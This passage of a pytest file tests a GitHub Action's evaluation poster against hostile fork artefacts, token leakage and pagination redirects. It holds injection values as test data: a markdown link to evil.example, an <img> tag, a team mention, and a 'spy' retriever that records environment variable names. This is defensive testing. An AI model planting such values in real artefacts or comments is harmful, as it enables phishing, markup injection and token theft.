    assert "#### Gate: ❌ failed (rules from `ci-eval.toml` of the default branch)" in body
    assert job.outputs["verdict"] == "fail"


def test_a_poster_without_the_default_branchs_config_refuses_before_anything(gh, fork_job,
                                                                         tmp_path):
    run_id, _ = _fork_pr_run(gh, fork_job.job.bundle_zip())
    gh.requests.clear()

    job = run_action(gh, tmp_path, tmp_path, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 2
    assert job.stderr.strip().splitlines()[-1].startswith(
        "ci-eval: error: input config: the workflow_run poster found no ci-eval.toml")
    assert "actions/checkout" in job.stderr
    assert calls(gh) == [] and bodies(gh, FORK_PR) == []


def test_the_poster_refuses_when_the_pull_request_moved_on(gh, fork_job, tmp_path, checkout):
    moved_on = fake_sha("a newer fork commit")
    run_id, artifact = _fork_pr_run(gh, fork_job.job.bundle_zip(), pr_head=moved_on)

    job = run_action(gh, tmp_path, checkout, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 2
    assert calls(gh) == [
        ("GET", f"/actions/runs/{run_id}"),
        ("GET", f"/actions/runs/{run_id}/artifacts"),
        ("GET", f"/actions/artifacts/{artifact}/zip"),
        ("GET", f"/pulls/{FORK_PR}"),
    ]
    assert bodies(gh, FORK_PR) == []
    assert job.stderr.strip().splitlines() == [
        "ci-eval: posting the comment of the pull request run that triggered this workflow",
        f"ci-eval: no comment posted for run {run_id}: its artifact was refused",
        (f"ci-eval: error: artifact ci-eval (id {artifact}) of run {run_id}:pr.json: pull request "
         f"#{FORK_PR} is at {moved_on[:7]}, but the run built {FORK_HEAD[:7]}: refusing to post "
         "another commit's results"),
    ]
    assert job.outputs == {}


# -- inputs and the log ---------------------------------------------------------------------


def test_the_token_is_masked_before_anything_else_and_never_logged(gh, checkout, tmp_path):
    rejected = "ghs_revokedTOKENrevokedTOKEN42"

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), github_token=rejected)

    assert job.code == 5
    assert job.stdout.splitlines()[0] == f"::add-mask::{rejected}"
    assert rejected not in job.stdout.split("\n", 1)[1] and rejected not in job.stderr
    assert job.stderr.splitlines()[-1] == (
        "ci-eval: error: no baseline: GitHub failed while the baseline was looked up (GitHub rejected the "
        "token while listing runs of workflow ci-eval.yml (HTTP 401: Bad credentials); pass a "
        "valid token, usually ${{ github.token }})")
    # The baseline lookup and the comment listing, each refused once, never retried.
    assert [r.headers["authorization"] for r in gh.requests] == [f"token {rejected}"] * 2
    assert rejected not in (job.bundle / "ci-eval-run.json").read_text()



def test_an_unknown_comment_mode_is_exit_2_with_one_line(gh, checkout, tmp_path):
    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), comment="sometimes")

    assert job.code == 2
    assert job.stderr.splitlines() == [
        "ci-eval: error: input comment: must be one of always, on-change, off, got 'sometimes'"]
    assert gh.requests == [] and job.outputs == {} and job.summary == ""


def test_a_missing_event_payload_is_exit_2_with_one_line(gh, checkout, tmp_path):
    job = run_action(gh, tmp_path, checkout, "pull_request", None)

    assert job.code == 2
    assert job.stderr.splitlines() == [
        ("ci-eval: error: GITHUB_EVENT_PATH: is not set: ci-eval action runs inside a GitHub "
         "Actions job")]
    assert gh.requests == [] and job.outputs == {}


def test_pull_request_target_is_refused(gh, checkout, tmp_path):
    job = run_action(gh, tmp_path, checkout, "pull_request_target", pr_event())

    assert job.code == 2
    assert job.stderr.splitlines() == [
        ("ci-eval: error: GITHUB_EVENT_NAME: pull_request_target is refused: use pull_request "
         "plus a workflow_run poster")]
    assert gh.requests == [] and not job.bundle.exists() and job.outputs == {}


def test_a_pull_request_without_github_workflow_ref_fails_closed_before_the_retriever(gh, checkout, tmp_path):
    # Another CI, a local run, a runner too old to set it: the baseline's workflow is unknown.
    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), unset=("GITHUB_WORKFLOW_REF",))

    assert job.code == 2
    [line] = job.stderr.splitlines()
    assert line.startswith("ci-eval: error: GITHUB_WORKFLOW_REF: is not set, so the workflow whose push "
                           "runs hold the baseline is unknown and this pull request cannot be compared")
    assert "docs/other-ci.md" in line
    # Nothing ran, nothing was posted, no output says pass; the Gate step is red with the code.
    assert gh.requests == [] and not job.bundle.exists() and job.outputs == {}
    assert job.gate.returncode == 2


def test_a_push_without_github_workflow_ref_records_its_baseline_and_says_the_trend_starts_over(
        gh, checkout, tmp_path):
    job = run_action(gh, tmp_path, checkout, "push", push_event(BASE), sha=BASE, ref="refs/heads/main",
                     unset=("GITHUB_WORKFLOW_REF",))

    assert job.code == 0, job.stderr
    assert "GITHUB_WORKFLOW_REF is not set: the branch's earlier runs are not looked up, so the trend " \
           "starts over" in job.stderr
    assert gh.requests == []  # no lookup of an unknown workflow's runs
    assert (job.bundle / "ci-eval-run.json").is_file() and job.outputs["verdict"] == "pass"


def test_the_poster_posts_for_a_same_repository_pr_whose_run_could_not(gh, checkout, tmp_path):
    # A same-repository PR with a read-only token (Dependabot's, say): its run cannot comment.
    gh.refuse_writes()
    pr_job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
    assert json.loads((pr_job.bundle / "pr.json").read_text())["comment_posted"] is False
    gh.refuse_writes(False)
    run_id = gh.add_run(HEAD, head_branch="feature", event="pull_request", conclusion="success")
    gh.add_artifact(run_id, pr_job.bundle_zip())
    gh.requests.clear()

    event = workflow_run_event(run_id, head_sha=HEAD)
    event["workflow_run"]["head_repository"] = {"full_name": REPO}
    job = run_action(gh, tmp_path, checkout, "workflow_run", event, sha=BASE, ref="refs/heads/main",
                     mode="comment")

    assert job.code == 0, job.stderr
    [body] = bodies(gh)
    assert verdict_line(body) == verdict_line((pr_job.bundle / "comment.md").read_text())


def test_the_poster_leaves_a_same_repository_pr_its_run_commented_on(gh, checkout, tmp_path):
    pr_job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
    assert json.loads((pr_job.bundle / "pr.json").read_text())["comment_posted"] is True
    run_id = gh.add_run(HEAD, head_branch="feature", event="pull_request", conclusion="success")
    gh.add_artifact(run_id, pr_job.bundle_zip())
    posted = len(bodies(gh))

    event = workflow_run_event(run_id, head_sha=HEAD)
    event["workflow_run"]["head_repository"] = {"full_name": REPO}
    job = run_action(gh, tmp_path, checkout, "workflow_run", event, sha=BASE, ref="refs/heads/main",
                     mode="comment")

    assert job.code == 0, job.stderr
    assert "its own run posted the comment" in job.stderr
    assert len(bodies(gh)) == posted


# -- the poster and a hostile fork artefact ---------------------------------------------------

HOSTILE_METRIC_NAMES = ("@acme/security-team", "[login](https://evil.example/p)", "<img src=x>")


def _hostile_fork_bundle(fork_job: ForkJob, change) -> bytes:
    members = {p.name: p.read_bytes() for p in sorted(fork_job.job.bundle.iterdir())}
    head = as_objects(json.loads(members["ci-eval-run.json"]))
    change(head)
    members["ci-eval-run.json"] = json.dumps(head, sort_keys=True).encode()
    return build_zip(members)


def _rename_first_mean(head: dict, name: str) -> None:
    means = head["summary"]["overall"]["means"]
    first = next(iter(means))
    head["summary"]["overall"]["means"] = {name if k == first else k: v for k, v in means.items()}
    head["metrics"] = [name if m == first else m for m in head["metrics"]]


@pytest.mark.parametrize("name", HOSTILE_METRIC_NAMES)
def test_the_poster_refuses_a_fork_artefact_with_a_hostile_metric_name(gh, fork_job, tmp_path, checkout, name):
    run_id, artifact = _fork_pr_run(gh, _hostile_fork_bundle(fork_job, lambda h: _rename_first_mean(h, name)))

    job = run_action(gh, tmp_path, checkout, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 2, job.stderr
    assert bodies(gh, FORK_PR) == [] and ("POST", f"/issues/{FORK_PR}/comments") not in calls(gh)
    source = f"artifact ci-eval (id {artifact}) of run {run_id}:ci-eval-run.json"
    assert f"ci-eval: error: {source}:metrics[0]: not a metric ci-eval computes" in job.stderr
    assert f"ci-eval: no comment posted for run {run_id}: its artifact was refused" in job.stderr
    for text in (job.stdout, job.stderr, job.summary):
        assert name not in text


def test_the_poster_refuses_an_out_of_range_grade_and_metric_without_crashing(gh, fork_job, tmp_path, checkout):
    def change(head):
        head["questions"][0]["gold"] = {"alpha": 10 ** 400}
        head["summary"]["overall"]["means"]["hit@1"] = -2.0

    run_id, _ = _fork_pr_run(gh, _hostile_fork_bundle(fork_job, change))

    job = run_action(gh, tmp_path, checkout, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 2, job.stderr
    assert "Traceback" not in job.stderr and bodies(gh, FORK_PR) == []
    assert "ci-eval-run.json:questions[0].gold.alpha: 1000000000" in job.stderr
    assert "is out of range (maximum 1000)" in job.stderr


def _own_tags(head: dict) -> None:
    """Every question 50 tags of its own and three more such questions, every count kept
    true: past the distinct-tag limit, by tags alone."""
    from ci_eval.core.limits import MAX_TAGS, MAX_TAGS_PER_QUESTION

    first = head["questions"][0]
    extra = MAX_TAGS // MAX_TAGS_PER_QUESTION + 1 - len(head["questions"])
    head["questions"] += [dict(first, id=f"extra{i}") for i in range(extra)]
    measured = [q for q in head["questions"] if q["status"] in ("ok", "error") and not q["unanswerable"]]
    for q in head["questions"]:
        q["tags"] = [f"{q['id']}-t{j}" for j in range(MAX_TAGS_PER_QUESTION)]
    summary = head["summary"]
    summary["by_tag"] = {}
    summary["overall"]["count"] = len(measured)
    summary["errors"] = sum(q["status"] == "error" for q in head["questions"])
    head["gold_set"]["questions"] = len(head["questions"])


def test_the_poster_refuses_a_fork_artefact_of_too_many_tags_before_a_tag_is_compared(gh, fork_job, tmp_path,
                                                                                       checkout):
    # Each tag is tested on each metric (milliseconds a tag): 600 questions of 50 tags of
    # their own held the privileged poster about 4 ms a tag, an hour within the size limit.
    from ci_eval.core.limits import MAX_TAGS, MAX_TAGS_PER_QUESTION

    run_id, artifact = _fork_pr_run(gh, _hostile_fork_bundle(fork_job, _own_tags))

    job = run_action(gh, tmp_path, checkout, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 2, job.stderr
    assert bodies(gh, FORK_PR) == []
    source = f"artifact ci-eval (id {artifact}) of run {run_id}:ci-eval-run.json"
    tags = (MAX_TAGS // MAX_TAGS_PER_QUESTION + 1) * MAX_TAGS_PER_QUESTION
    assert f"ci-eval: error: {source}:questions: names {tags:,} distinct tags, over the limit of {MAX_TAGS:,}" \
        in job.stderr.splitlines()
    assert f"ci-eval: no comment posted for run {run_id}: its artifact was refused" in job.stderr


def test_a_pr_json_naming_no_pull_request_is_a_refused_artefact(gh, fork_job, tmp_path, checkout):
    members = {p.name: p.read_bytes() for p in sorted(fork_job.job.bundle.iterdir())}
    pr = json.loads(members["pr.json"])
    members["pr.json"] = json.dumps({**pr, "number": 4040}).encode()
    run_id, artifact = _fork_pr_run(gh, build_zip(members))

    job = run_action(gh, tmp_path, checkout, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 2, job.stderr
    assert (f"ci-eval: error: artifact ci-eval (id {artifact}) of run {run_id}:pr.json: names pull "
            "request #4040, which does not exist") in job.stderr
    assert bodies(gh, FORK_PR) == [] and bodies(gh, 4040) == []


SPY = '''import json, os

def search(question, k):
    # What the user's code finds in its own process's environment.
    with open("spy-env.json", "w") as fh:
        json.dump(sorted(os.environ), fh)
    return [("alpha", 1.0)]
'''


def test_a_python_retriever_runs_after_the_token_left_the_environment(gh, tmp_path):
    project = tmp_path / "project"
    project.mkdir()
    (project / "gold.json").write_text(json.dumps(GOLD))
    (project / "spy.py").write_text(SPY)
    (project / "ci-eval.toml").write_text(
        'gold_set = "gold.json"\nk = 1\n[retriever]\ntype = "python"\ntarget = "spy:search"\n')

    job = run_action(gh, tmp_path, project, "push", push_event(BASE), sha=BASE, ref="refs/heads/main")

    assert job.code == 0, job.stderr
    names = set(json.loads((project / "spy-env.json").read_text()))
    assert not {n for n in names if n.startswith("INPUT_") or n == "GITHUB_TOKEN"}, names
    # What the job needs from the runner is still there.
    assert {"GITHUB_REPOSITORY", "GITHUB_SHA", "PATH"} <= names


@pytest.mark.parametrize("listing", ["runs", "comments"])
def test_a_link_to_another_host_is_refused_and_the_run_still_writes_everything(
        gh, checkout, tmp_path, listing):
    for i in range(101):  # two pages: the answer carries a Link header
        if listing == "runs":
            add_push_run(gh, fake_sha(f"main-{i}"), None, timedelta(minutes=i))
        else:
            gh.add_comment(PR, f"review comment {i}", user_login="octo-dev")
    gh.link_pages_to(gh.blob_url)  # another host: it would receive the token

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    refusal = "GitHub's answer pointed its next page at localhost, not at the API host 127.0.0.1"
    assert refusal in job.stderr and "Traceback" not in job.stderr
    assert gh.blob_requests == []
    assert (job.bundle / "ci-eval-run.json").is_file()
    assert verdict_line(job.summary).startswith("### ")
    if listing == "runs":
        assert job.code == 5  # the comparison the gate promised did not happen
        assert job.outputs["verdict"] == "error"
        assert baseline_line(job.summary).startswith("**Baseline:** none: GitHub failed while the baseline was looked up")
    else:
        assert job.code == 0, job.stderr
        assert job.outputs["verdict"] == "pass"
        assert "warning: the comment was not posted" in job.stderr
